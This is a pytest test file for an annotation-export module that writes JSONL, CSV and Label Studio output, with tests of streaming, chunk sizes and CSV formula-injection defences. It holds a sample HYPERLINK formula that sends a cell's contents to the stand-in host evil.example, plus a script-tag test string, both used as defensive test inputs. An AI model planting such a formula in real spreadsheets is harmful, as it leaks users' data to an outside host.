import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest

from review.export_formats import (
    CHUNK_SIZE,
    COLUMNS,
    FORMATS,
    ExportFormat,
    neutralise_cell,
    render,
)

STARTED_AT = datetime(2025, 3, 4, 9, 15, 0, tzinfo=UTC)
SUBMITTED_AT = STARTED_AT + timedelta(seconds=42.5)
REVIEWED_AT = STARTED_AT + timedelta(hours=2)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = ('<script>alert("x")</script> & "quoted", \'single\'\nnew line\r\nCRLF, comma;'
           ' 日本語 Ünïcödé 👩‍⚕️ \\ back\\slash\ttab')
FORMAT_NAMES = sorted(FORMATS)
SPEC = [
    {"name": "ranking", "type": "ranking", "label": "Rank", "options": ["A", "B", "C"]},
    {"name": "quality", "type": "rating", "label": "Quality", "min": 1, "max": 5},
    {"name": "topic", "type": "single_choice", "label": "Topic", "options": ["Law", "Health"]},
    {"name": "issues", "type": "multiple_choice", "label": "Issues",
     "options": ["Off topic", "Rude"]},
    {"name": "reason", "type": "free_text", "label": "Reason"},
]


def functional_row(**overrides) -> dict:
    row = {
        "kind": "functional", "task_id": 7, "task_name": "Answer ranking", "batch_number": 3,
        "item_id": 1001, "external_id": "ext-1001", "source": "forum-dump-2025",
        "modality": "text", "text": "Which answer is best?", "media": "",
        "rule_set": "Ranking rules", "rule_version": 2, "annotator": "ann-5f2c",
        "label": {"ranking": ["B", "A", "C"], "quality": 4, "topic": "Law",
                  "issues": ["Off topic"], "reason": "B cites the statute."},
        "review_outcome": "accepted", "started_at": STARTED_AT, "submitted_at": SUBMITTED_AT,
        "reviewed_at": REVIEWED_AT,
    }
    return {**row, **overrides}


def safety_row(**overrides) -> dict:
    row = {
        **functional_row(), "kind": "safety", "task_name": "Harm screen", "batch_number": None,
        "text": "Mix bleach and ammonia to clean.", "rule_set": "Risk taxonomy",
        "label": {"risk_codes": ["A.2.b"], "no_risk": False,
                  "spans": [{"start": 0, "end": 22, "code": "A.2.b"}, {"start": 23, "end": 31}],
                  "note": "Toxic gas."},
        "review_outcome": "approved by 2",
    }
    return {**row, **overrides}


def output(rows, fmt: str) -> str:
    return b"".join(render(rows, fmt)).decode("utf-8")


def jsonl_records(rows) -> list[dict]:
    lines = output(rows, "jsonl").split("\n")
    assert lines[-1] == ""
    return [json.loads(line) for line in lines[:-1]]


def csv_cells(rows) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output(rows, "csv"), newline="")))


def csv_records(rows) -> list[dict[str, str]]:
    header, *records = csv_cells(rows)
    return [dict(zip(header, record, strict=True)) for record in records]


def labelstudio_tasks(rows) -> list[dict]:
    return json.loads(output(rows, "labelstudio"))


def numbered_rows(count: int, *, fail_after: int | None = None) -> Iterator[dict]:
    for number in range(count):
        if fail_after is not None and number == fail_after:
            raise RuntimeError("the database went away")
        yield functional_row(item_id=number, text=f"Item {number}: " + "lorem ipsum " * 20)


class CountingRows:
    """An iterator of rows that counts how many have been read."""

    def __init__(self, count: int) -> None:
        self.read = 0
        self._rows = numbered_rows(count)

    def __iter__(self) -> "CountingRows":
        return self

    def __next__(self) -> dict:
        row = next(self._rows)
        self.read += 1
        return row


class TestFormats:
    def test_describes_each_format_for_serving(self):
        described = {name: (export_format.name, export_format.content_type,
                            export_format.extension)
                     for name, export_format in FORMATS.items()}

        assert described == {
            "jsonl": ("jsonl", "application/x-ndjson", "jsonl"),
            "csv": ("csv", "text/csv; charset=utf-8", "csv"),
            "labelstudio": ("labelstudio", "application/json", "json"),
        }
        assert all(isinstance(export_format, ExportFormat) for export_format in FORMATS.values())


class TestNeutraliseCell:
    @pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
    def test_prefixes_a_quote_to_formula_text(self, value):
        assert neutralise_cell(value) == "'" + value

    @pytest.mark.parametrize("value", ["", "plain", "a=b", "{\"x\": \"=1\"}", "'=quoted", "42"])
    def test_leaves_other_text_alone(self, value):
        assert neutralise_cell(value) == value


class TestRender:
    def test_refuses_an_unknown_format_naming_the_valid_ones(self):
        with pytest.raises(ValueError, match=r"'xlsx'.*csv, jsonl, labelstudio\."):
            render([functional_row()], "xlsx")

    def test_refuses_an_unknown_format_before_reading_a_row(self):
        rows = CountingRows(10)

        with pytest.raises(ValueError, match="Unknown export format"):
            render(rows, "xml")

        assert rows.read == 0

    @pytest.mark.parametrize("fmt", FORMAT_NAMES)
    def test_reads_rows_only_as_chunks_are_consumed(self, fmt):
        rows = CountingRows(5_000)

        stream = render(rows, fmt)
        read_before = rows.read
        first = next(stream)

        assert read_before == 0
        assert len(first) == CHUNK_SIZE
        assert 0 < rows.read < 5_000

    @pytest.mark.parametrize("fmt", FORMAT_NAMES)
    def test_yields_chunks_before_a_failing_source_fails(self, fmt):
        chunks = []

        with pytest.raises(RuntimeError, match="database went away"):
            for chunk in render(numbered_rows(10_000, fail_after=2_000), fmt):
                chunks.append(chunk)

        assert len(chunks) >= 2

    @pytest.mark.parametrize("fmt", FORMAT_NAMES)
    def test_keeps_every_chunk_within_the_bound(self, fmt):
        huge = functional_row(text="é€😀" * 300_000)
        rows = [functional_row(), huge, functional_row()]

        chunks = list(render(rows, fmt))

        assert len(chunks) > 10
        assert all(0 < len(chunk) <= CHUNK_SIZE for chunk in chunks)
        assert all(len(chunk) == CHUNK_SIZE for chunk in chunks[:-1])
        assert "é€😀" * 300_000 in b"".join(chunks).decode("utf-8")

    @pytest.mark.parametrize("fmt", FORMAT_NAMES)
    def test_streams_many_rows_in_constant_memory(self, fmt):
        def rows() -> Iterator[dict]:
            for number in range(25_000):
                yield functional_row(item_id=number, text=f"Item {number} " + "x" * 100)

        tracemalloc.start()
        try:
            total = sum(len(chunk) for chunk in render(rows(), fmt))
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()

        assert total > 8 * 1024 * 1024
        assert peak < 2 * 1024 * 1024

    @pytest.mark.parametrize(("fmt", "expected"), [
        ("jsonl", ""),
        ("csv", ",".join(COLUMNS) + "\r\n"),
        ("labelstudio", "[]"),
    ])
    def test_writes_a_valid_empty_document_for_zero_rows(self, fmt, expected):
        assert output(iter([]), fmt) == expected


class TestRenderJsonl:
    def test_writes_one_object_per_row_with_provenance(self):
        records = jsonl_records([functional_row(), safety_row()])

        assert [record["kind"] for record in records] == ["functional", "safety"]
        assert records[0] == {
            **functional_row(), "started_at": "2025-03-04T09:15:00+00:00",
            "submitted_at": "2025-03-04T09:15:42.500000+00:00",
            "reviewed_at": "2025-03-04T11:15:00+00:00",
        }
        assert records[1]["batch_number"] is None
        assert records[1]["label"]["spans"][1] == {"start": 23, "end": 31}
        assert records[1]["review_outcome"] == "approved by 2"

    def test_round_trips_hostile_and_non_ascii_text(self):
        label = {"reason": HOSTILE, "issues": [HOSTILE]}

        [record] = jsonl_records([functional_row(text=HOSTILE, annotator=HOSTILE, label=label)])

        assert record["text"] == HOSTILE
        assert record["annotator"] == HOSTILE
        assert record["label"] == label
        assert "日本語" in output([functional_row(text=HOSTILE)], "jsonl")

    def test_keeps_unicode_line_separators_inside_their_record(self):
        text = "first\u2028second\u2029third"

        written = output([functional_row(text=text), functional_row()], "jsonl")

        assert len(written.splitlines()) == 2
        assert json.loads(written.splitlines()[0])["text"] == text

    def test_writes_only_the_exported_columns_in_a_stable_order(self):
        row = functional_row(person_id=42, email="someone@example.com", label_spec=SPEC)

        first, second = output([row, functional_row()], "jsonl").split("\n")[:2]

        assert list(json.loads(first)) == sorted(COLUMNS)
        assert first == second


class TestRenderCsv:
    def test_writes_a_header_then_one_row_per_record(self):
        header, *records = csv_cells([functional_row(), safety_row()])

        assert header == list(COLUMNS)
        assert len(records) == 2

    def test_carries_provenance_and_encodes_nested_values_as_json(self):
        functional, safety = csv_records([functional_row(), safety_row()])

        assert functional["task_id"] == "7"
        assert functional["task_name"] == "Answer ranking"
        assert functional["rule_version"] == "2"
        assert functional["annotator"] == "ann-5f2c"
        assert functional["review_outcome"] == "accepted"
        assert functional["submitted_at"] == "2025-03-04T09:15:42.500000+00:00"
        assert json.loads(functional["label"]) == functional_row()["label"]
        assert safety["batch_number"] == ""
        assert json.loads(safety["label"]) == safety_row()["label"]
        assert '"no_risk":false' in safety["label"]

    def test_neutralises_a_formula_in_any_cell(self):
        row = functional_row(text=FORMULA, annotator=FORMULA, external_id="+1", source="-1",
                             task_name="@SUM(A1)", media="\tx", review_outcome="\rx",
                             label={"reason": FORMULA, "issues": [FORMULA]})

        [record] = csv_records([row])

        assert record["text"] == "'" + FORMULA
        assert record["annotator"] == "'" + FORMULA
        assert record["external_id"] == "'+1"
        assert record["source"] == "'-1"
        assert record["task_name"] == "'@SUM(A1)"
        assert record["media"] == "'\tx"
        assert record["review_outcome"] == "'\rx"
        assert json.loads(record["label"]) == {"reason": FORMULA, "issues": [FORMULA]}

    def test_never_yields_a_cell_that_starts_a_formula(self):
        text_columns = ("text", "annotator", "source", "label", "task_name", "review_outcome",
                        "media", "external_id", "rule_set", "modality", "kind")
        rows = [functional_row(**dict.fromkeys(text_columns, formula))
                for formula in [FORMULA, "+1", "-1", "@x", "\t=1", "\r=1"]]
        rows.append(functional_row(label=[FORMULA], item_id=-5, rule_version=-1))

        cells = [cell for record in csv_cells(rows) for cell in record]

        assert len(cells) == len(COLUMNS) * (len(rows) + 1)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    def test_round_trips_hostile_and_non_ascii_text(self):
        label = {"reason": HOSTILE}

        [record] = csv_records([functional_row(text=HOSTILE, source=HOSTILE, label=label)])

        assert record["text"] == HOSTILE
        assert record["source"] == HOSTILE
        assert json.loads(record["label"]) == label


class TestRenderLabelStudio:
    def test_writes_a_task_per_row_with_provenance(self):
        [task] = labelstudio_tasks([functional_row(label_spec=SPEC)])

        assert task["id"] == 1001
        assert task["data"] == {"text": "Which answer is best?", "external_id": "ext-1001",
                                "source": "forum-dump-2025"}
        [annotation] = task["annotations"]
        assert annotation["completed_by"] == "ann-5f2c"
        assert annotation["created_at"] == "2025-03-04T09:15:42.500000+00:00"
        assert annotation["lead_time"] == 42.5
        assert task["meta"] == {
            "kind": "functional", "task_id": 7, "task": "Answer ranking", "batch_number": 3,
            "rule_set": "Ranking rules", "rule_version": 2, "review_outcome": "accepted",
            "reviewed_at": "2025-03-04T11:15:00+00:00",
        }

    def test_maps_functional_fields_to_results_by_their_spec_type(self):
        label = {**functional_row()["label"], "quality": None}

        [task] = labelstudio_tasks([functional_row(label=label, label_spec=SPEC)])

        results = {result["from_name"]: result for result in task["annotations"][0]["result"]}
        assert set(results) == {"ranking", "topic", "issues", "reason"}
        assert results["ranking"]["type"] == "choices"
        assert results["ranking"]["value"] == {"choices": ["B", "A", "C"]}
        assert results["topic"]["value"] == {"choices": ["Law"]}
        assert results["issues"]["value"] == {"choices": ["Off topic"]}
        assert results["reason"]["type"] == "textarea"
        assert results["reason"]["value"] == {"text": ["B cites the statute."]}
        assert {result["to_name"] for result in results.values()} == {"text"}

    def test_maps_a_rating(self):
        [task] = labelstudio_tasks([functional_row(label_spec=SPEC)])

        [rating] = [r for r in task["annotations"][0]["result"] if r["from_name"] == "quality"]
        assert rating["type"] == "rating"
        assert rating["value"] == {"rating": 4}

    def test_reads_field_types_from_values_without_a_spec(self):
        [task] = labelstudio_tasks([functional_row()])

        types = {result["from_name"]: result["type"] for result in task["annotations"][0]["result"]}
        assert types == {"ranking": "choices", "quality": "rating", "topic": "textarea",
                         "issues": "choices", "reason": "textarea"}

    def test_maps_a_safety_label_to_choices_spans_and_note(self):
        [task] = labelstudio_tasks([safety_row()])

        choices, coded, uncoded, note = task["annotations"][0]["result"]
        assert choices["type"] == "choices"
        assert choices["from_name"] == "risk"
        assert choices["value"] == {"choices": ["A.2.b"]}
        assert coded["type"] == "labels"
        assert coded["value"] == {"start": 0, "end": 22, "text": "Mix bleach and ammonia",
                                  "labels": ["A.2.b"]}
        assert uncoded["value"] == {"start": 23, "end": 31, "text": "to clean", "labels": ["risk"]}
        assert note["type"] == "textarea"
        assert note["value"] == {"text": ["Toxic gas."]}
        assert task["meta"]["kind"] == "safety"
        assert task["meta"]["batch_number"] is None
        assert task["meta"]["review_outcome"] == "approved by 2"

    def test_marks_a_label_without_risk_as_no_risk(self):
        label = {"risk_codes": [], "no_risk": True, "spans": [], "note": ""}

        [task] = labelstudio_tasks([safety_row(label=label)])

        assert task["annotations"][0]["result"] == [{
            "id": "r0", "from_name": "risk", "to_name": "text", "type": "choices",
            "value": {"choices": ["no_risk"]},
        }]

    @pytest.mark.parametrize("modality", ["image", "audio", "video"])
    def test_puts_media_under_its_modality(self, modality):
        row = safety_row(modality=modality, text="", media=f"items/2025/03/{modality}.bin",
                         label={"risk_codes": ["A.1.a"], "no_risk": False, "spans": [],
                                "note": ""})

        [task] = labelstudio_tasks([row])

        assert task["data"] == {modality: f"items/2025/03/{modality}.bin",
                                "external_id": "ext-1001", "source": "forum-dump-2025"}
        assert task["annotations"][0]["result"][0]["to_name"] == modality

    def test_leaves_lead_time_empty_without_both_times(self):
        [task] = labelstudio_tasks([functional_row(started_at=None)])

        assert task["annotations"][0]["lead_time"] is None

    def test_round_trips_hostile_and_non_ascii_text(self):
        row = functional_row(text=HOSTILE, annotator=HOSTILE, label={"reason": HOSTILE})

        tasks = labelstudio_tasks([row, row])

        assert [task["data"]["text"] for task in tasks] == [HOSTILE, HOSTILE]
        assert tasks[0]["annotations"][0]["completed_by"] == HOSTILE
        assert tasks[0]["annotations"][0]["result"][0]["value"] == {"text": [HOSTILE]}
